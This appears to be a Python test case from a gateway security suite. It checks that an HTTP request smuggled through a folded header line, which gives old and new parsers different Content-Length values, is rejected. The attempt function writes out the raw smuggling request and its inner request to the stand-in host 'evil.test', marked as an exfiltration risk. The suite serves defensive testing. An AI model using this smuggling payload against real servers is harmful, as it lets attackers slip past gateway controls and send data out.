"""A request in a body: a length on a folded line.

A line that begins with a blank continues the field before it, for old readers; for others it is
a field of its own. So the message has one length for the one and another for the other.

Not covered: folding in answers, which the gateway does not judge.
"""

ATTACK = {
    "title": "Smuggled request: a folded field",
    "group": "http",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["CWE-444", "RFC 9112 section 5.2"],
    "arrives": [{"what": "request", "path": "/smuggled"}],
    "stopped": [{"reason": ["malformed-request"], "entry": ["transparent"]}],
}


def attempt(kit):
    inner = kit.get("/smuggled", "evil.test")
    head = f"Host: allowed.test\r\nContent-Length: {len(inner)}\r\nX: y\r\n Content-Length: 0\r\n\r\n"
    kit.talk("allowed.test", 80, f"POST /upload HTTP/1.1\r\n{head}{inner}")
